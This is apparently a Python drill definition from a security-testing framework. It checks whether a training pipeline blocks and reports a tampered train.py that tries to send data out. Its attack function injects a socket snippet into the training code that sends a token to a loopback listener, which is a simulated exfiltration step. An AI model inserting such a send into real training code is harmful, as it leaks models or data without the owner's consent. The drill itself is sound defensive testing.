"""MOD-05: a training job tries to send its checkpoint away."""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path

from sealwright.drill import sink
from sealwright.drill.declaration import Attempt, Declaration, Drill, Scene, Sight, Trace
from sealwright.drill.installation import rewrite
from sealwright.drill.reading import said, trace
from sealwright.errors import CannotLook
from sealwright.evidence.predicates.model import Custody
from sealwright.evidence.predicates.operation import Incident

DECLARATION = Declaration(
    id="MOD-05",
    title="A training job sends a checkpoint away",
    atlas=("AML.T0025",),
    attack="The training code is changed so that it sends a few bytes to a server on the loopback,"
    " which writes down what it gets. Then it is trained.",
    twin="The training code is changed in another way, the server listens, too, and it is trained.",
    prevention="Nothing reaches the server, and the run leaves no model.",
    detection="An incident that names the attempt.",
    cleanup="The server is ended by its process id, and the copy of the installation deleted.",
    controls=("training-run",),
)
_MAIN = 'if __name__ == "__main__":\n'
_SEND = """\
    import socket

    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as connection:
        connection.sendall(b"{text}")
"""


def attack(scene: Scene) -> None:
    """Lets the training code send, and trains."""
    port = _listen(scene)
    send = _SEND.format(port=port, text=scene.correlation)
    rewrite(scene.root / "train.py", lambda text: text.replace(_MAIN, _MAIN + send))
    _train(scene)


def twin(scene: Scene) -> None:
    """Lets the training code do a little more work, and trains."""
    _listen(scene)
    other = ("ROUNDS, STEP = 80", "ROUNDS, STEP = 81")
    rewrite(scene.root / "train.py", lambda text: text.replace(*other))
    _train(scene)


def _listen(scene: Scene) -> int:
    """Starts the server; its port."""
    command = [sys.executable, "-m", "sealwright.drill.sink", str(scene.folder)]
    scene.journal.start(command, cwd=scene.folder, stdin=subprocess.PIPE)
    place = scene.folder / sink.PORT
    deadline = time.monotonic() + 10
    while not place.exists():
        if time.monotonic() > deadline:
            raise CannotLook("the server that is to be sent to did not start")
        time.sleep(0.01)
    port = int(place.read_text(encoding="ascii"))
    scene.journal.note(port=port)
    return port


def _train(scene: Scene) -> None:
    from sealwright.project.progress import Silent
    from sealwright.project.run import perform
    from sealwright.project.steps import gates
    from sealwright.project.steps import model as steps
    from sealwright.project.steps.step import Agreed

    agreed = Agreed()
    training = steps.steps(scene.project, agreed)[:1]
    perform(
        scene.project,
        [*steps.code_steps(scene.project), gates.train(scene.project, agreed), *training],
        progress=Silent(),
    )


def look(sight: Sight) -> tuple[Attempt, ...]:
    """What reached the server, whether there is a model, and the incident."""
    received = _received(sight.folder)
    models = list(said(sight.entries, Custody))
    stopped = [
        trace(item, f"incident {each.severity} (entry {item.index}): {each.title}; {each.detail}")
        for item, each in said(sight.entries, Incident)
        if each.status == "open"
    ]
    nothing = Trace("the server received nothing, and the run left no model")
    return (
        Attempt(
            name="send a checkpoint",
            reached=bool(received) or bool(models),
            prevention=(nothing,) if stopped and not received and not models else (),
            detection=tuple(stopped),
        ),
    )


def _received(folder: Path) -> list[str]:
    place = folder / sink.RECEIVED
    return place.read_text(encoding="ascii").split() if place.exists() else []


DRILL = Drill(declaration=DECLARATION, attack=attack, twin=twin, look=look)
